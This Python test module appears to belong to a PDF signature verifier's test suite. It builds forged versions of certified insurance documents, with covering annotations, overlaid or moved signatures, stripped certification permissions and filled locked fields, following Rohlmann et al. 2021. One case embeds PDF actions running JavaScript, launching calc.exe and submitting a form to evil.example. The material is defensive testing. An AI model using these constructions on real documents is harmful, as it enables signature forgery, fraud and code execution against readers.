"""Attacks on certified documents: notes and signatures laid over what was certified, and certifications undone."""

from __future__ import annotations

from typing import Final

from tests.attacks import people
from tests.attacks.cases import attack
from tests.attacks.contracts import (
    AMOUNT,
    AMOUNT_SHOWN,
    CATALOG,
    FIRST,
    FORM,
    FREE,
    PAGE,
    SECOND,
    SECOND_BOX,
    SECOND_SIGNATURE,
    SIGNATURE,
    amount,
    amount_shown,
    approved,
    catalog,
    certified,
    certified_for_filling,
    certified_for_notes,
    certified_for_nothing,
    fill,
    form,
    page,
    reference,
    signature_dictionary,
    signature_field,
    signed,
    signing,
    unsigned,
)
from tests.attacks.messages import signature_of
from tests.attacks.writing import Objects, drawing, text, update

NOTE: Final = FREE
_ALL: Final = b"10 0 R 11 0 R 12 0 R 13 0 R"
_COVERING: Final = b"/Rect [50 680 450 730] /F 4 /AP << /N 101 0 R >>"


def annotated(kind: bytes, more: bytes = b"", *, where: bytes = _COVERING) -> dict[int, bytes]:
    """An update that lays an annotation over the insured sum."""
    note = b"<< /Type /Annot /Subtype %s /P 3 0 R %s %s >>" % (kind, where, more)
    return {
        PAGE: page(annotations=_ALL + b" %d 0 R" % NOTE),
        NOTE: note,
        NOTE + 1: drawing(b"1 g 0 0 400 50 re f 0 g " + text(b"The insurer pays 900.", 10, 20), b"0 0 400 50"),
    }


_KINDS: Final = [
    b"/FreeText", b"/Stamp", b"/Redact", b"/Square", b"/Circle", b"/Ink", b"/Line", b"/Polygon", b"/PolyLine",
    b"/Caret", b"/Highlight", b"/Underline", b"/StrikeOut", b"/Squiggly", b"/Text", b"/FileAttachment",
    b"/Watermark", b"/Screen", b"/3D", b"/RichMedia", b"/Movie", b"/Sound", b"/PrinterMark", b"/Link", b"/Popup",
    b"/Unknown",
]  # fmt: skip


@attack.each({kind.decode()[1:]: kind for kind in _KINDS})
def evil_note_where_filling_is_allowed(kind: bytes) -> bytes:
    """A note covers the insured sum of a document that was certified for form filling alone.

    Source: Rohlmann et al., "Breaking the Specification: PDF Certification", IEEE S&P 2021, section 4.1 (EAA, P 2).
    """
    return update(certified_for_filling(), annotated(kind))


@attack.each({kind.decode()[1:]: kind for kind in _KINDS})
def evil_note_on_an_approved_document(kind: bytes) -> bytes:
    """A note covers the insured sum of a document that was signed, and certified by nobody.

    Source: Rohlmann et al. 2021, section 4.1; ISO 32000-2 clause 12.8.2.2.1 (what is not named is not allowed).
    """
    return update(approved(), annotated(kind))


def new_signature(box: bytes) -> dict[int, bytes]:
    """An update that adds a signature field in this place; its signature is still to be made."""
    changed = signing(b"new", box, value=SECOND_SIGNATURE, field=FREE)
    changed[FORM] = form(fields=_ALL + b" %d 0 R" % FREE)
    changed[PAGE] = page(annotations=_ALL + b" %d 0 R" % FREE)
    changed[SECOND_SIGNATURE] = signature_dictionary()
    return changed


_NO_NOTES: Final = [
    b"/Redact", b"/Watermark", b"/Screen", b"/3D", b"/RichMedia", b"/Movie", b"/PrinterMark", b"/TrapNet",
    b"/Projection", b"/Unknown",
]  # fmt: skip


@attack.each({kind.decode()[1:]: kind for kind in _NO_NOTES})
def no_note_at_all(kind: bytes) -> bytes:
    """Something that is no reader's note is laid over a document that was certified for notes.

    A redaction takes content away; a watermark, media and what a printer marks are content; what no standard knows
    is shown by viewers without being listed among the notes.

    Source: Rohlmann et al. 2021, sections 4.1 and 5.2 (kinds of annotation by danger; kinds that hide themselves).
    """
    return update(certified_for_notes(), annotated(kind))


@attack.each(
    {
        "a script": b"/A << /S /JavaScript /JS (app.alert\\(1\\)) >>",
        "a script on the page": b"/AA << /PO << /S /JavaScript /JS (app.alert\\(1\\)) >> >>",
        "a program": b"/A << /S /Launch /F (calc.exe) >>",
        "a form that is sent": b"/A << /S /SubmitForm /F (http://evil.example) >>",
        "something after a link": b"/A << /S /URI /URI (http://a.example) /Next << /S /JavaScript /JS (1) >> >>",
        "what hides fields": b"/A << /S /Hide /T (amount) >>",
        "what switches layers": b"/A << /S /SetOCGState /State [/OFF 100 0 R] >>",
    },
    "content-changed",
)
def note_that_does_something(action: bytes) -> bytes:
    """A note that is allowed carries an action: a script runs with the rights of the certified document.

    Source: Rohlmann et al. 2021, section 4.3 (code injection into certified documents); ISO 32000-2 clause 12.6.
    """
    return update(certified_for_notes(), annotated(b"/FreeText", action))


@attack.each(
    {
        "the whole page": b"0 0 595 842",
        "a third of it": b"595 842 0 560",
        "the field with the sum": b"50 595 270 625",
    },
    "signature-overlaid",
)
def sneaky_signature_over(box: bytes) -> bytes:
    """A signature field that was not there when the document was certified is laid over it, and signed.

    Over text alone only a drawn page shows it: that is for the comparison of the pages.

    Source: Rohlmann et al. 2021, section 4.2 (SSA).
    """
    return fill(update(certified_for_filling(), new_signature(box)), signature_of(people.second_signer()))


@attack("signature-overlaid")
def sneaky_signature_on_an_approved_document() -> bytes:
    """A signature that covers the page is added to a document that nobody certified.

    Source: Rohlmann et al. 2021, section 4.2 (SSA).
    """
    return fill(update(approved(), new_signature(b"0 0 595 842")), signature_of(people.second_signer()))


@attack("signature-moved")
def sneaky_signature_in_a_place_that_was_made_larger() -> bytes:
    """The place for the second signature is made as large as the page, and then signed.

    Source: Rohlmann et al. 2021, section 4.2 (SSA); VERIFY.md, a moved or enlarged signature rectangle is an error.
    """
    changed = signing(b"second", b"0 0 595 842", value=SECOND_SIGNATURE, field=SECOND)
    changed[SECOND_SIGNATURE] = signature_dictionary()
    return fill(update(certified_for_filling(), changed), signature_of(people.second_signer()))


@attack("signature-moved")
def signature_that_is_moved_afterwards() -> bytes:
    """The signed field is moved over the insured sum.

    Source: VERIFY.md, a moved or enlarged signature rectangle is an error.
    """
    more = b"/V %d 0 R /AP << /N 16 0 R >>" % SIGNATURE
    return update(certified_for_notes(), {FIRST: signature_field(b"first", b"50 680 450 730", more)})


@attack.each({"the signature": b"10 0 R 11 0 R 13 0 R", "everything": b""}, "signature-altered")
def page_that_loses(annotations: bytes) -> bytes:
    """Notes may be removed, and with them what the signature shows is taken off the page.

    Source: ISO 32000-2 table 257, P 3 (notes, not signatures).
    """
    return update(certified_for_notes(), {PAGE: page(annotations=annotations)})


@attack.each({"1": 1, "2": 2, "3": 3}, "content-changed")
def certification_that_is_taken_back(level: int) -> bytes:
    """An update takes the catalog's Perms away: the document seems to have been approved, not certified.

    Source: ISO 32000-2 clause 12.8.6 (permissions); Rohlmann et al. 2021, section 2.
    """
    return update(certified(level), {CATALOG: catalog()})


@attack.each({"more": b"/P 3", "less": b"/P 2"}, "signature-altered")
def certification_that_says(level: bytes) -> bytes:
    """An update writes the signature dictionary with another P, and fills in the form, which P 1 forbids.

    Source: ISO 32000-2 table 257; VERIFY.md, list, 5.
    """
    document = certified_for_nothing()
    start = document.rindex(b"\n%d 0 obj\n" % SIGNATURE) + len(b"\n%d 0 obj\n" % SIGNATURE)
    dictionary = document[start : document.index(b"\nendobj", start)].replace(b"/P 1", level)
    filled = {AMOUNT: amount(b"(900)"), AMOUNT_SHOWN: amount_shown(b"900")}
    return update(document, {SIGNATURE: dictionary, **filled})


@attack("locked-field-changed")
def filling_in_where_nothing_is_allowed() -> bytes:
    """A field of a document that was certified for nothing (P 1) is filled in.

    Source: ISO 32000-2 table 257, P 1.
    """
    return update(certified_for_nothing(), {AMOUNT: amount(b"(900)"), AMOUNT_SHOWN: amount_shown(b"900")})


@attack("signature-added")
def signing_where_nothing_is_allowed() -> bytes:
    """A second signature is put into a document that was certified for nothing (P 1).

    Source: ISO 32000-2 table 257, P 1.
    """
    return signed(certified_for_nothing(), name=b"second", more={CATALOG: catalog(b"/Perms << /DocMDP 19 0 R >>")})


@attack.each({"before": 1, "after": 3})
def second_certification(level: int) -> bytes:
    """Behind the certification stands a second one that allows more: only the first signature may certify.

    Source: ISO 32000-2 clause 12.8.2.2.1, "a document can contain only one signature field that contains a DocMDP
    transform method; it shall be the first signed field".
    """
    perms = b"/DocMDP /TransformParams << /Type /TransformParams /P 3 /V /1.2 >>"
    more: Objects = {CATALOG: catalog(b"/Perms << /DocMDP %d 0 R >>" % SECOND_SIGNATURE)}
    document = certified(2) if level == 3 else approved()
    return signed(document, name=b"second", dictionary=signature_dictionary(reference(perms)), more=more)


@attack.each(
    {
        "all fields": b"/Action /All",
        "this field": b"/Action /Include /Fields [(amount)]",
        "all but another": b"/Action /Exclude /Fields [(agreed)]",
    },
    "locked-field-changed",
)
def filling_in_what_a_signature_locks(action: bytes) -> bytes:
    """A field is filled in that the signature's FieldMDP locks.

    Source: ISO 32000-2 clause 12.8.2.4.
    """
    parameters = b"/FieldMDP /TransformParams << /Type /TransformParams /V /1.2 %s >>" % action
    document = signed(unsigned(), dictionary=signature_dictionary(reference(parameters)))
    return update(document, {AMOUNT: amount(b"(900)"), AMOUNT_SHOWN: amount_shown(b"900")})


@attack("locked-field-changed")
def filling_in_what_a_lock_closes() -> bytes:
    """The signed field's own Lock closes the document (P 1), and a field is filled in.

    Source: ISO 32000-2 clause 12.7.5.5, table 236 (SigFieldLock, P).
    """
    lock = b"/Lock << /Type /SigFieldLock /Action /Exclude /Fields [(amount)] /P 1 >>"
    changed = signing()
    changed[FIRST] = changed[FIRST].replace(b"/F 132", b"/F 132 " + lock)
    changed[SIGNATURE] = signature_dictionary()
    document = fill(update(unsigned(), changed), signature_of(people.signer()))
    return update(document, {AMOUNT: amount(b"(900)"), AMOUNT_SHOWN: amount_shown(b"900")})


@attack("form-field-altered")
def lock_that_is_taken_away() -> bytes:
    """The Lock of a place that is still to be signed is taken away: what the next signature would close stays open.

    Source: ISO 32000-2 clause 12.7.5.5; Rohlmann et al. 2021, section 7.
    """
    lock = b"/Lock << /Type /SigFieldLock /Action /All >>"
    document = signed(update(unsigned(), {SECOND: signature_field(b"second", SECOND_BOX, lock)}))
    return update(document, {SECOND: signature_field(b"second", SECOND_BOX)})
